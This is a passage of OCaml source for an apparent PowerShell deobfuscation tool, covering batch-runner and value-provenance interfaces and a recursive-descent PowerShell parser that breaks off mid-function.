    [out_dir] (and [trace_dir]) are created with mkdir-p semantics; if one
    cannot be created (e.g. the path names a regular file) every outcome
    carries a structured ["write"] failure instead of the batch crashing.
    The process-global {!Pscommon.Telemetry.Metrics} registry is reset at
    the start of the call, so a snapshot taken afterwards (and the
    [metrics.json] rollup from {!run_dir}) covers exactly this run. *)

val run_dir :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  ?trace_dir:string ->
  ?jobs:int ->
  string ->
  summary
(** Process every regular file in a directory, in sorted order.  With
    [out_dir], also writes [out_dir/batch_report.json] and the run-level
    observability rollup [out_dir/metrics.json]. *)

val outcome_to_json : outcome -> string
val summary_to_json : summary -> string

val metrics_json : summary -> string
(** The run-level rollup written as [metrics.json]: contained-failure
    counts keyed ["phase/kind"], piece-cache hit rate, per-phase wall-time
    totals, and the current {!Pscommon.Telemetry.Metrics} snapshot
    (counters, gauges and latency histograms aggregated across all pool
    domains).  Meaningful right after {!run_files}/{!run_dir}, which reset
    the registry at the start of the run. *)
