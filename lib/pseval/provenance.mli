(** Value provenance for dynamic recovery (PowerPeeler-style).

    A recorder installed on an {!Env.t} stamps each variable write with
    its defining source extent, step index, and dependency set, so final
    values can be mapped back to the source regions that produced them.
    Fail-safe: a recorder fault (including the [interp.provenance] chaos
    site) poisons the recorder rather than escaping into evaluation. *)

type record = {
  id : int;
  var : string;  (** binding name, lowercased (the scope-table key) *)
  spelled : string;  (** the name as written at the defining site *)
  extent : Pscommon.Extent.t;  (** source extent of the defining assignment *)
  step : int;  (** evaluator step index at the write *)
  deps : int list;  (** ids of the last writes of each value read *)
}

type t

val create : ?cap:int -> unit -> t
(** Fresh recorder; past [cap] records it poisons itself (never silently
    drops provenance). *)

val note :
  t -> var:string -> extent:Pscommon.Extent.t -> step:int ->
  reads:string list -> unit
(** Stamp one variable write.  [reads] are the names the written value was
    derived from; they resolve to the ids of their last writes.  Never
    raises — any fault poisons the recorder instead. *)

val poisoned : t -> string option
(** Set when recording failed; the provenance map must not be trusted. *)

val count : t -> int
(** Records stamped so far. *)

val records : t -> record list
(** All records in write order. *)

val last_write : t -> string -> record option
(** The most recent write of a binding (name case-insensitive). *)

val defining_extents : t -> string -> Pscommon.Extent.t list
(** Transitive dependency closure of a binding's final value: every source
    extent that contributed to it, in first-write order. *)

val read_vars : Psast.Ast.t -> string list
(** Variable names an expression reads ([$name] and expandable-string
    interpolations), lowercased, sorted, deduplicated. *)
