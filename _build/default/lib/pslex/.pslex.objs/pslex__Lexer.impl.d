lib/pslex/lexer.ml: Buffer Extent List Printf Pscommon Strcase String Token
