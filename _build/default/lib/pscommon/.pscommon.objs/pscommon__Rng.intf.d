lib/pscommon/rng.mli:
