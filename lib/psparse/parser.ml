open Pscommon
module T = Pslex.Token
module A = Psast.Ast

type error = { message : string; position : int }

exception Err of error

let err pos message = raise (Err { message; position = pos })

type state = {
  src : string;
  toks : T.t array;
  mutable pos : int;
  mutable last_stop : int;  (* stop offset of the last consumed token *)
  mutable no_comma : bool;
      (* inside a method argument list commas separate arguments, so the
         expression grammar must not fold them into array literals; any
         nested group resets this *)
}

(* ---------- token helpers ---------- *)

let at_end st = st.pos >= Array.length st.toks
let peek st = if at_end st then None else Some st.toks.(st.pos)
let peek2 st = if st.pos + 1 >= Array.length st.toks then None else Some st.toks.(st.pos + 1)

let cur_position st =
  match peek st with
  | Some t -> t.T.extent.Extent.start
  | None -> String.length st.src

let advance st =
  if at_end st then err (cur_position st) "unexpected end of script";
  let t = st.toks.(st.pos) in
  st.pos <- st.pos + 1;
  st.last_stop <- t.T.extent.Extent.stop;
  t

let kind_is st k = match peek st with Some t -> t.T.kind = k | None -> false

let op_is st s =
  match peek st with
  | Some { T.kind = T.Operator; content; _ } -> String.equal content s
  | _ -> false

let group_start_is st s =
  match peek st with
  | Some { T.kind = T.Group_start; content; _ } -> String.equal content s
  | _ -> false

let group_end_is st s =
  match peek st with
  | Some { T.kind = T.Group_end; content; _ } -> String.equal content s
  | _ -> false

let keyword_is st s =
  match peek st with
  | Some { T.kind = T.Keyword; content; _ } -> Strcase.equal content s
  | _ -> false

let expect_group_end st s =
  match peek st with
  | Some { T.kind = T.Group_end; content; _ } when content = s ->
      ignore (advance st)
  | _ -> err (cur_position st) (Printf.sprintf "expected '%s'" s)

let expect_op st s =
  if op_is st s then ignore (advance st)
  else err (cur_position st) (Printf.sprintf "expected '%s'" s)

let skip_newlines st =
  while kind_is st T.New_line do
    ignore (advance st)
  done

let skip_separators st =
  while kind_is st T.New_line || kind_is st T.Statement_separator do
    ignore (advance st)
  done

let mark st = cur_position st

let node_here st start node =
  (* a node that consumed no tokens (empty block at end of a fragment) gets
     a zero-width extent *)
  let stop = max start st.last_stop in
  A.make node (Extent.make ~start ~stop)

(* ---------- numbers ---------- *)

let parse_number_content pos content =
  let lower = Strcase.lower content in
  let sign, body =
    if String.length lower > 0 && lower.[0] = '-' then
      (-1., String.sub lower 1 (String.length lower - 1))
    else (1., lower)
  in
  let body, mult =
    let strip suffix m =
      if Strcase.ends_with ~suffix body then
        Some (String.sub body 0 (String.length body - String.length suffix), m)
      else None
    in
    match
      List.find_map
        (fun (s, m) -> strip s m)
        [ ("kb", 1024.); ("mb", 1048576.); ("gb", 1073741824.);
          ("tb", 1099511627776.); ("pb", 1125899906842624.); ("l", 1.); ("d", 1.) ]
    with
    | Some (b, m) -> (b, m)
    | None -> (body, 1.)
  in
  if String.length body > 2 && body.[0] = '0' && body.[1] = 'x' then
    match int_of_string_opt body with
    | Some n -> A.Int_lit (int_of_float (sign *. float_of_int n *. mult))
    | None -> err pos (Printf.sprintf "bad hex literal %s" content)
  else if String.contains body '.' || String.contains body 'e' then
    match float_of_string_opt body with
    | Some f ->
        let v = sign *. f *. mult in
        if Float.is_integer v && mult > 1. then A.Int_lit (int_of_float v)
        else A.Float_lit v
    | None -> err pos (Printf.sprintf "bad float literal %s" content)
  else
    match int_of_string_opt body with
    | Some n ->
        let v = sign *. float_of_int n *. mult in
        A.Int_lit (int_of_float v)
    | None -> err pos (Printf.sprintf "bad numeric literal %s" content)

(* ---------- operators ---------- *)

(* maps an operator token content (already lowercased by the lexer) to a
   binop plus explicit case-sensitivity flag *)
let binop_of_content content =
  let lookup bare =
    match bare with
    | "-eq" -> Some A.Eq
    | "-ne" -> Some A.Ne
    | "-gt" -> Some A.Gt
    | "-ge" -> Some A.Ge
    | "-lt" -> Some A.Lt
    | "-le" -> Some A.Le
    | "-like" -> Some A.Like
    | "-notlike" -> Some A.Notlike
    | "-match" -> Some A.Match
    | "-notmatch" -> Some A.Notmatch
    | "-replace" -> Some A.Replace
    | "-split" -> Some A.Split
    | "-join" -> Some A.Join
    | "-contains" -> Some A.Contains
    | "-notcontains" -> Some A.Notcontains
    | "-in" -> Some A.In_op
    | "-notin" -> Some A.Notin
    | "-is" -> Some A.Is_op
    | "-isnot" -> Some A.Isnot
    | "-as" -> Some A.As_op
    | "-band" -> Some A.Band
    | "-bor" -> Some A.Bor
    | "-bxor" -> Some A.Bxor
    | "-shl" -> Some A.Shl
    | "-shr" -> Some A.Shr
    | _ -> None
  in
  (* exact spellings first: '-contains' must not lose its 'c' to the
     case-sensitivity prefix, nor '-isnot' its 'i' *)
  match lookup content with
  | Some op -> Some (op, None)
  | None ->
      if String.length content > 2 && content.[0] = '-' then
        let w = String.sub content 1 (String.length content - 1) in
        let stripped = "-" ^ String.sub w 1 (String.length w - 1) in
        if w.[0] = 'c' then Option.map (fun op -> (op, Some true)) (lookup stripped)
        else if w.[0] = 'i' then Option.map (fun op -> (op, Some false)) (lookup stripped)
        else None
      else None

(* ---------- forward declarations via recursion ---------- *)

let rec parse_script_block st ~closing =
  let start = mark st in
  skip_separators st;
  let params =
    if keyword_is st "param" then parse_param_keyword st else []
  in
  let stmts = parse_statement_list st ~closing in
  node_here st start (A.Script_block { sb_params = params; sb_statements = stmts })

and parse_param_keyword st =
  ignore (advance st);
  (* 'param' *)
  skip_newlines st;
  if group_start_is st "(" then begin
    ignore (advance st);
    let names = ref [] in
    let depth = ref 1 in
    while !depth > 0 && not (at_end st) do
      let t = advance st in
      match t.T.kind with
      | T.Group_start -> incr depth
      | T.Group_end -> decr depth
      | T.Variable -> if !depth = 1 then names := t.T.content :: !names
      | _ -> ()
    done;
    List.rev !names
  end
  else []

and parse_statement_list st ~closing =
  let stmts = ref [] in
  let continue = ref true in
  while !continue do
    skip_separators st;
    match peek st with
    | None -> continue := false
    | Some { T.kind = T.Group_end; content; _ } when closing = Some content ->
        continue := false
    | Some { T.kind = T.Group_end; _ } when closing = None ->
        err (cur_position st) "unbalanced group end"
    | Some _ ->
        stmts := parse_statement st :: !stmts;
        (* a statement must be followed by a separator, the closing group or
           EOF — unless it ended with '}' (blocks chain freely) *)
        (match peek st with
        | None | Some { T.kind = T.New_line | T.Statement_separator | T.Group_end; _ } ->
            ()
        | Some t ->
            let ended_with_brace =
              st.pos > 0
              &&
              let prev = st.toks.(st.pos - 1) in
              prev.T.kind = T.Group_end && prev.T.content = "}"
            in
            if not ended_with_brace then
              err t.T.extent.Pscommon.Extent.start "unexpected token after statement")
  done;
  List.rev !stmts

and parse_block st =
  skip_newlines st;
  let start = mark st in
  if not (group_start_is st "{") then err (cur_position st) "expected '{'";
  ignore (advance st);
  let stmts = parse_statement_list st ~closing:(Some "}") in
  expect_group_end st "}";
  node_here st start (A.Statement_block stmts)

and parse_paren_pipeline st =
  skip_newlines st;
  if not (group_start_is st "(") then err (cur_position st) "expected '('";
  ignore (advance st);
  skip_separators st;
  let e = parse_statement st in
  skip_separators st;
  expect_group_end st ")";
  e

and parse_statement st =
  skip_newlines st;
  let start = mark st in
  match peek st with
  | None -> err (cur_position st) "expected a statement"
  | Some { T.kind = T.Keyword; content; _ } -> (
      match Strcase.lower content with
      | "if" -> parse_if st start
      | "while" ->
          ignore (advance st);
          let cond = parse_paren_pipeline st in
          let body = parse_block st in
          node_here st start (A.While_stmt (cond, body))
      | "do" ->
          ignore (advance st);
          let body = parse_block st in
          skip_newlines st;
          if keyword_is st "while" then begin
            ignore (advance st);
            let cond = parse_paren_pipeline st in
            node_here st start (A.Do_while_stmt (body, cond))
          end
          else if keyword_is st "until" then begin
            ignore (advance st);
            let cond = parse_paren_pipeline st in
            node_here st start (A.Do_until_stmt (body, cond))
          end
          else err (cur_position st) "expected 'while' or 'until' after do block"
      | "for" -> parse_for st start
      | "foreach" ->
          (* statement form only when followed by '(' *)
          if
            match peek2 st with
            | Some { T.kind = T.Group_start; content = "("; _ } -> true
            | _ -> false
          then parse_foreach st start
          else parse_pipeline_statement st
      | "switch" -> parse_switch st start
      | "function" | "filter" -> parse_function st start
      | "param" ->
          let names = parse_param_keyword st in
          node_here st start (A.Param_block names)
      | "return" ->
          ignore (advance st);
          let value = parse_optional_pipeline st in
          node_here st start (A.Return_stmt value)
      | "break" ->
          ignore (advance st);
          node_here st start A.Break_stmt
      | "continue" ->
          ignore (advance st);
          node_here st start A.Continue_stmt
      | "throw" ->
          ignore (advance st);
          let value = parse_optional_pipeline st in
          node_here st start (A.Throw_stmt value)
      | "exit" ->
          ignore (advance st);
          let value = parse_optional_pipeline st in
          node_here st start (A.Exit_stmt value)
      | "try" -> parse_try st start
      | ("begin" | "process" | "end" | "dynamicparam") as name ->
          ignore (advance st);
          let body = parse_block st in
          node_here st start (A.Named_block (name, body))
      | "trap" ->
          ignore (advance st);
          skip_newlines st;
          (* optional type *)
          if kind_is st T.Type_name then ignore (advance st);
          let body = parse_block st in
          node_here st start (A.Trap_stmt body)
      | kw ->
          (* keywords that behave like commands in loose scripts *)
          ignore kw;
          parse_pipeline_statement st)
  | Some _ -> parse_pipeline_statement st

and parse_optional_pipeline st =
  match peek st with
  | None -> None
  | Some { T.kind = T.New_line | T.Statement_separator | T.Group_end; _ } ->
      None
  | Some _ -> Some (parse_pipeline st)

and parse_if st start =
  ignore (advance st);
  let clauses = ref [] in
  let cond = parse_paren_pipeline st in
  let body = parse_block st in
  clauses := [ (cond, body) ];
  let else_branch = ref None in
  let continue = ref true in
  while !continue do
    (* newlines allowed before elseif/else *)
    let save = st.pos in
    skip_newlines st;
    if keyword_is st "elseif" then begin
      ignore (advance st);
      let c = parse_paren_pipeline st in
      let b = parse_block st in
      clauses := (c, b) :: !clauses
    end
    else if keyword_is st "else" then begin
      ignore (advance st);
      else_branch := Some (parse_block st);
      continue := false
    end
    else begin
      st.pos <- save;
      continue := false
    end
  done;
  node_here st start (A.If_stmt (List.rev !clauses, !else_branch))

and parse_for st start =
  ignore (advance st);
  skip_newlines st;
  if not (group_start_is st "(") then err (cur_position st) "expected '(' after for";
  ignore (advance st);
  skip_separators st;
  let init =
    if kind_is st T.Statement_separator then None else Some (parse_statement st)
  in
  if kind_is st T.Statement_separator then ignore (advance st);
  skip_newlines st;
  let cond =
    if kind_is st T.Statement_separator then None else Some (parse_pipeline st)
  in
  if kind_is st T.Statement_separator then ignore (advance st);
  skip_newlines st;
  let step =
    if group_end_is st ")" then None else Some (parse_statement st)
  in
  skip_separators st;
  expect_group_end st ")";
  let body = parse_block st in
  node_here st start (A.For_stmt (init, cond, step, body))

and parse_foreach st start =
  ignore (advance st);
  skip_newlines st;
  ignore (advance st);
  (* '(' *)
  skip_newlines st;
  let var_start = mark st in
  let var_tok = advance st in
  if var_tok.T.kind <> T.Variable then err var_start "expected loop variable";
  let var =
    node_here st var_start
      (A.Variable_expr { A.var_name = var_tok.T.content; var_splat = false })
  in
  skip_newlines st;
  if not (keyword_is st "in") then err (cur_position st) "expected 'in'";
  ignore (advance st);
  skip_newlines st;
  let coll = parse_pipeline st in
  skip_newlines st;
  expect_group_end st ")";
  let body = parse_block st in
  node_here st start (A.Foreach_stmt (var, coll, body))

and parse_switch st start =
  ignore (advance st);
  skip_newlines st;
  (* optional flags: -regex -wildcard -exact -casesensitive *)
  let rec skip_flags () =
    match peek st with
    | Some { T.kind = T.Command_argument; content; _ }
      when String.length content > 0 && content.[0] = '-' ->
        ignore (advance st);
        skip_flags ()
    | Some { T.kind = T.Command_parameter; _ } ->
        ignore (advance st);
        skip_flags ()
    | _ -> ()
  in
  skip_flags ();
  let value = parse_paren_pipeline st in
  skip_newlines st;
  if not (group_start_is st "{") then err (cur_position st) "expected '{' in switch";
  ignore (advance st);
  let cases = ref [] in
  let default = ref None in
  let continue = ref true in
  while !continue do
    skip_separators st;
    if group_end_is st "}" then begin
      ignore (advance st);
      continue := false
    end
    else begin
      let pat_start = mark st in
      let is_default =
        match peek st with
        | Some { T.kind = T.Command | T.Command_argument | T.Member; content; _ }
          when Strcase.equal content "default" ->
            true
        | _ -> false
      in
      if is_default then begin
        ignore (advance st);
        let body = parse_block st in
        default := Some body
      end
      else begin
        let pat =
          match peek st with
          | Some { T.kind = T.Command | T.Command_argument | T.Member; content; _ } ->
              ignore (advance st);
              node_here st pat_start (A.String_const (content, A.Bare))
          | _ -> parse_primary st
        in
        let body = parse_block st in
        cases := (pat, body) :: !cases
      end
    end
  done;
  node_here st start (A.Switch_stmt (value, List.rev !cases, !default))

and parse_function st start =
  ignore (advance st);
  skip_newlines st;
  let name_tok = advance st in
  let name =
    match name_tok.T.kind with
    | T.Command | T.Command_argument | T.Member | T.Keyword -> name_tok.T.content
    | _ -> err name_tok.T.extent.Extent.start "expected function name"
  in
  skip_newlines st;
  let params =
    if group_start_is st "(" then begin
      ignore (advance st);
      let names = ref [] in
      let depth = ref 1 in
      while !depth > 0 && not (at_end st) do
        let t = advance st in
        match t.T.kind with
        | T.Group_start -> incr depth
        | T.Group_end -> decr depth
        | T.Variable -> if !depth = 1 then names := t.T.content :: !names
        | _ -> ()
      done;
      List.rev !names
    end
    else []
  in
  skip_newlines st;
  if not (group_start_is st "{") then err (cur_position st) "expected function body";
  let body_start = mark st in
  ignore (advance st);
  let inner = parse_script_block st ~closing:(Some "}") in
  expect_group_end st "}";
  let body = A.make inner.A.node (Extent.make ~start:body_start ~stop:st.last_stop) in
  node_here st start (A.Function_def (name, params, body))

and parse_try st start =
  ignore (advance st);
  let body = parse_block st in
  let catches = ref [] in
  let finally = ref None in
  let continue = ref true in
  while !continue do
    let save = st.pos in
    skip_newlines st;
    if keyword_is st "catch" then begin
      ignore (advance st);
      skip_newlines st;
      let types = ref [] in
      while kind_is st T.Type_name do
        let t = advance st in
        types := t.T.content :: !types;
        skip_newlines st;
        if op_is st "," then begin
          ignore (advance st);
          skip_newlines st
        end
      done;
      let cbody = parse_block st in
      catches := (List.rev !types, cbody) :: !catches
    end
    else if keyword_is st "finally" then begin
      ignore (advance st);
      finally := Some (parse_block st);
      continue := false
    end
    else begin
      st.pos <- save;
      continue := false
    end
  done;
  if !catches = [] && !finally = None then
    err (cur_position st) "try without catch or finally";
  node_here st start (A.Try_stmt (body, List.rev !catches, !finally))

(* ---------- pipelines & commands ---------- *)

and parse_pipeline_statement st = parse_pipeline st

and parse_pipeline st =
  let start = mark st in
  let first = parse_pipeline_element st in
  (* assignment? *)
  match (first.A.node, peek st) with
  | A.Command_expression lhs, Some { T.kind = T.Operator; content; _ }
    when List.mem content [ "="; "+="; "-="; "*="; "/="; "%=" ] ->
      let op =
        match content with
        | "=" -> A.Assign
        | "+=" -> A.Plus_assign
        | "-=" -> A.Minus_assign
        | "*=" -> A.Times_assign
        | "/=" -> A.Div_assign
        | "%=" -> A.Mod_assign
        | _ -> assert false
      in
      ignore (advance st);
      skip_newlines st;
      let rhs = parse_statement st in
      node_here st start (A.Assignment (op, lhs, rhs))
  | _ ->
      let elements = ref [ first ] in
      while op_is st "|" || op_is st "||" do
        ignore (advance st);
        skip_newlines st;
        elements := parse_pipeline_element st :: !elements
      done;
      node_here st start (A.Pipeline (List.rev !elements))

and parse_pipeline_element st =
  let start = mark st in
  match peek st with
  | None -> err (cur_position st) "expected pipeline element"
  | Some { T.kind = T.Command; _ } -> parse_command st start A.Inv_normal None
  | Some { T.kind = T.Keyword; content; _ } ->
      (* 'foreach'/'where' as command aliases inside pipelines *)
      let name_tok = advance st in
      ignore content;
      let name =
        A.make
          (A.String_const (name_tok.T.content, A.Bare))
          name_tok.T.extent
      in
      parse_command_elements st start A.Inv_normal name
  | Some { T.kind = T.Operator; content = "&"; _ } ->
      ignore (advance st);
      parse_invocation_target st start A.Inv_call
  | Some { T.kind = T.Operator; content = "."; _ } ->
      ignore (advance st);
      parse_invocation_target st start A.Inv_dot
  | Some _ ->
      let e = parse_expression st in
      (* an expression can be followed by command arguments only via call
         operators, so a bare expression is a command-expression element *)
      A.make (A.Command_expression e) e.A.extent

and parse_invocation_target st start inv =
  skip_newlines st;
  let name =
    match peek st with
    | Some { T.kind = T.Command_argument; _ } ->
        let t = advance st in
        A.make (A.String_const (t.T.content, A.Bare)) t.T.extent
    | _ -> parse_postfix st
  in
  parse_command_elements st start inv name

and parse_command st start inv name_opt =
  ignore name_opt;
  let name_tok = advance st in
  let name =
    A.make (A.String_const (name_tok.T.content, A.Bare)) name_tok.T.extent
  in
  parse_command_elements st start inv name

and parse_command_elements st start inv name =
  let elements = ref [ A.Elem_name name ] in
  let continue = ref true in
  while !continue do
    match peek st with
    | None -> continue := false
    | Some { T.kind = T.New_line | T.Statement_separator | T.Group_end | T.Index_end; _ } ->
        continue := false
    | Some { T.kind = T.Operator; content = "|" | "||" | "&&"; _ } -> continue := false
    | Some { T.kind = T.Operator; content = "&"; _ } ->
        (* background operator: consume and stop *)
        ignore (advance st);
        continue := false
    | Some { T.kind = T.Operator; content = ("2>&1" | "1>&2" | ">" | ">>" | "2>" | "1>" | "2>>" | "1>>" | "<") as redir; _ } ->
        ignore (advance st);
        (* consume a redirection target when one follows *)
        (match peek st with
        | Some { T.kind = T.Command_argument | T.Number; _ } -> ignore (advance st)
        | Some t when T.is_string t -> ignore (advance st)
        | _ -> ());
        elements := A.Elem_redirection redir :: !elements
    | Some { T.kind = T.Command_parameter; content; _ } ->
        ignore (advance st);
        let with_colon = String.length content > 0 && content.[String.length content - 1] = ':' in
        if with_colon then begin
          let value = parse_argument st in
          elements := A.Elem_parameter (content, Some value) :: !elements
        end
        else elements := A.Elem_parameter (content, None) :: !elements
    | Some { T.kind = T.Keyword; content; _ } ->
        (* keywords as bareword arguments inside a command *)
        let t = advance st in
        ignore content;
        elements :=
          A.Elem_argument (A.make (A.String_const (t.T.content, A.Bare)) t.T.extent)
          :: !elements
    | Some { T.kind = T.Operator; content; extent; _ } ->
        (* a stray operator in argument position is treated as a literal
           bareword argument, matching PowerShell's generic token gluing *)
        ignore (advance st);
        elements :=
          A.Elem_argument (A.make (A.String_const (content, A.Bare)) extent)
          :: !elements
    | Some _ ->
        let value = parse_argument st in
        elements := A.Elem_argument value :: !elements
  done;
  node_here st start
    (A.Command { A.cmd_invocation = inv; cmd_elements = List.rev !elements })

(* A command argument: a postfix-primary expression, possibly a comma
   array; no binary operators at argument position. *)
and parse_argument st =
  let start = mark st in
  let first = parse_argument_atom st in
  if op_is st "," then begin
    let items = ref [ first ] in
    while op_is st "," do
      ignore (advance st);
      skip_newlines st;
      items := parse_argument_atom st :: !items
    done;
    node_here st start (A.Array_literal (List.rev !items))
  end
  else first

and parse_argument_atom st =
  match peek st with
  | Some { T.kind = T.Command_argument; _ } ->
      let t = advance st in
      A.make (A.String_const (t.T.content, A.Bare)) t.T.extent
  | Some { T.kind = T.Number; content; extent; _ } ->
      let t = advance st in
      ignore t;
      A.make (A.Number_const (parse_number_content extent.Extent.start content)) extent
  | _ -> parse_postfix st

(* ---------- expressions ---------- *)

and parse_expression st = parse_logical st

and parse_logical st =
  let start = mark st in
  let lhs = ref (parse_comparison st) in
  let rec loop () =
    match peek st with
    | Some { T.kind = T.Operator; content = ("-and" | "-or" | "-xor") as c; _ } ->
        ignore (advance st);
        skip_newlines st;
        let rhs = parse_comparison st in
        let op =
          match c with
          | "-and" -> A.And_op
          | "-or" -> A.Or_op
          | _ -> A.Xor_op
        in
        lhs := node_here st start (A.Binary_expr (op, None, !lhs, rhs));
        loop ()
    | _ -> ()
  in
  loop ();
  !lhs

and parse_comparison st =
  let start = mark st in
  let lhs = ref (parse_additive st) in
  let rec loop () =
    match peek st with
    | Some { T.kind = T.Operator; content; _ } -> (
        match binop_of_content content with
        | Some (op, sensitivity) ->
            ignore (advance st);
            skip_newlines st;
            let rhs = parse_additive st in
            lhs := node_here st start (A.Binary_expr (op, sensitivity, !lhs, rhs));
            loop ()
        | None -> ())
    | _ -> ()
  in
  loop ();
  !lhs

and parse_additive st =
  let start = mark st in
  let lhs = ref (parse_multiplicative st) in
  let rec loop () =
    match peek st with
    | Some { T.kind = T.Operator; content = ("+" | "-") as c; _ } ->
        ignore (advance st);
        skip_newlines st;
        let rhs = parse_multiplicative st in
        let op = if c = "+" then A.Add else A.Sub in
        lhs := node_here st start (A.Binary_expr (op, None, !lhs, rhs));
        loop ()
    | _ -> ()
  in
  loop ();
  !lhs

and parse_multiplicative st =
  let start = mark st in
  let lhs = ref (parse_format st) in
  let rec loop () =
    match peek st with
    | Some { T.kind = T.Operator; content = ("*" | "/" | "%") as c; _ } ->
        ignore (advance st);
        skip_newlines st;
        let rhs = parse_format st in
        let op = match c with "*" -> A.Mul | "/" -> A.Div | _ -> A.Mod in
        lhs := node_here st start (A.Binary_expr (op, None, !lhs, rhs));
        loop ()
    | _ -> ()
  in
  loop ();
  !lhs

and parse_format st =
  let start = mark st in
  let lhs = ref (parse_range st) in
  let rec loop () =
    match peek st with
    | Some { T.kind = T.Operator; content = "-f"; _ } ->
        ignore (advance st);
        skip_newlines st;
        let rhs = parse_range st in
        lhs := node_here st start (A.Binary_expr (A.Format, None, !lhs, rhs));
        loop ()
    | _ -> ()
  in
  loop ();
  !lhs

and parse_range st =
  let start = mark st in
  let lhs = parse_array_literal st in
  if op_is st ".." then begin
    ignore (advance st);
    skip_newlines st;
    let rhs = parse_array_literal st in
    node_here st start (A.Binary_expr (A.Range, None, lhs, rhs))
  end
  else lhs

and parse_array_literal st =
  let start = mark st in
  let first = parse_unary st in
  if (not st.no_comma) && op_is st "," then begin
    let items = ref [ first ] in
    while op_is st "," do
      ignore (advance st);
      skip_newlines st;
      items := parse_unary st :: !items
    done;
    node_here st start (A.Array_literal (List.rev !items))
  end
  else first

and starts_operand st =
  match peek st with
  | Some { T.kind = T.Number | T.Variable | T.Splat_variable | T.Type_name
           | T.Group_start | T.String_single | T.String_double
           | T.String_single_here | T.String_double_here; _ } ->
      true
  | Some { T.kind = T.Operator;
           content = "-" | "+" | "!" | "-not" | "-bnot" | "-join" | "-split" | "++" | "--"; _ } ->
      true
  | _ -> false

and parse_unary st =
  let start = mark st in
  match peek st with
  | Some { T.kind = T.Operator; content = ("!" | "-not") ; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Not, operand))
  | Some { T.kind = T.Operator; content = "-bnot"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Bnot, operand))
  | Some { T.kind = T.Operator; content = "-join"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Ujoin, operand))
  | Some { T.kind = T.Operator; content = "-split"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Usplit, operand))
  | Some { T.kind = T.Operator; content = "-"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Negate, operand))
  | Some { T.kind = T.Operator; content = "+"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Unary_plus, operand))
  | Some { T.kind = T.Operator; content = "++"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Incr, operand))
  | Some { T.kind = T.Operator; content = "--"; _ } ->
      ignore (advance st);
      let operand = parse_unary st in
      node_here st start (A.Unary_expr (A.Decr, operand))
  | Some { T.kind = T.Type_name; content; _ } ->
      let t = advance st in
      if starts_operand st then
        let operand = parse_unary st in
        node_here st start (A.Convert_expr (content, operand))
      else
        let base = A.make (A.Type_literal content) t.T.extent in
        parse_postfix_chain st start base
  | _ -> parse_postfix st

and parse_postfix st =
  let start = mark st in
  let base = parse_primary st in
  parse_postfix_chain st start base

and parse_postfix_chain st start base =
  let lhs = ref base in
  let continue = ref true in
  while !continue do
    match peek st with
    | Some { T.kind = T.Operator; content = "."; extent; _ }
      when extent.Extent.start = st.last_stop ->
        ignore (advance st);
        parse_member_after st start lhs ~static:false
    | Some { T.kind = T.Operator; content = "::"; _ } ->
        ignore (advance st);
        parse_member_after st start lhs ~static:true
    | Some { T.kind = T.Index_start; _ } ->
        ignore (advance st);
        let saved = st.no_comma in
        st.no_comma <- false;
        skip_newlines st;
        let idx = parse_expression st in
        st.no_comma <- saved;
        skip_newlines st;
        (match peek st with
        | Some { T.kind = T.Index_end; _ } -> ignore (advance st)
        | _ -> err (cur_position st) "expected ']'");
        lhs := node_here st start (A.Index_expr (!lhs, idx))
    | Some { T.kind = T.Operator; content = "++"; _ } ->
        ignore (advance st);
        lhs := node_here st start (A.Postfix_expr (A.Incr, !lhs))
    | Some { T.kind = T.Operator; content = "--"; _ } ->
        ignore (advance st);
        lhs := node_here st start (A.Postfix_expr (A.Decr, !lhs))
    | _ -> continue := false
  done;
  !lhs

and parse_member_after st start lhs ~static =
  let member =
    match peek st with
    | Some { T.kind = T.Member; _ } ->
        let t = advance st in
        A.Member_name t.T.content
    | Some { T.kind = T.Variable; _ } ->
        let t = advance st in
        A.Member_dynamic
          (A.make
             (A.Variable_expr { A.var_name = t.T.content; var_splat = false })
             t.T.extent)
    | Some t when T.is_string t ->
        let e = parse_primary st in
        A.Member_dynamic e
    | _ -> err (cur_position st) "expected member name"
  in
  (* method call: '(' must be adjacent *)
  match peek st with
  | Some { T.kind = T.Group_start; content = "("; extent; _ }
    when extent.Extent.start = st.last_stop ->
      ignore (advance st);
      skip_newlines st;
      let args = ref [] in
      let saved_no_comma = st.no_comma in
      st.no_comma <- true;
      if not (group_end_is st ")") then begin
        args := [ parse_expression st ];
        skip_newlines st;
        while op_is st "," do
          ignore (advance st);
          skip_newlines st;
          args := parse_expression st :: !args;
          skip_newlines st
        done
      end;
      st.no_comma <- saved_no_comma;
      expect_group_end st ")";
      lhs := node_here st start (A.Invoke_member (!lhs, member, List.rev !args, static))
  | _ -> lhs := node_here st start (A.Member_access (!lhs, member, static))

and parse_primary st =
  let start = mark st in
  match peek st with
  | None -> err (cur_position st) "expected an expression"
  | Some { T.kind = T.Number; content; extent; _ } ->
      ignore (advance st);
      A.make (A.Number_const (parse_number_content extent.Extent.start content)) extent
  | Some { T.kind = T.String_single; content; extent; _ } ->
      ignore (advance st);
      A.make (A.String_const (content, A.Single_quoted)) extent
  | Some { T.kind = T.String_single_here; content; extent; _ } ->
      ignore (advance st);
      A.make (A.String_const (content, A.Single_here)) extent
  | Some ({ T.kind = T.String_double; _ } as t) ->
      ignore (advance st);
      parse_expandable st t A.Double_quoted
  | Some ({ T.kind = T.String_double_here; _ } as t) ->
      ignore (advance st);
      parse_expandable st t A.Double_here
  | Some { T.kind = T.Variable; content; extent; _ } ->
      ignore (advance st);
      A.make (A.Variable_expr { A.var_name = content; var_splat = false }) extent
  | Some { T.kind = T.Splat_variable; content; extent; _ } ->
      ignore (advance st);
      A.make (A.Variable_expr { A.var_name = content; var_splat = true }) extent
  | Some { T.kind = T.Type_name; content; extent; _ } ->
      ignore (advance st);
      A.make (A.Type_literal content) extent
  | Some { T.kind = T.Group_start; content = "("; _ } ->
      ignore (advance st);
      let saved = st.no_comma in
      st.no_comma <- false;
      skip_separators st;
      let inner = parse_statement st in
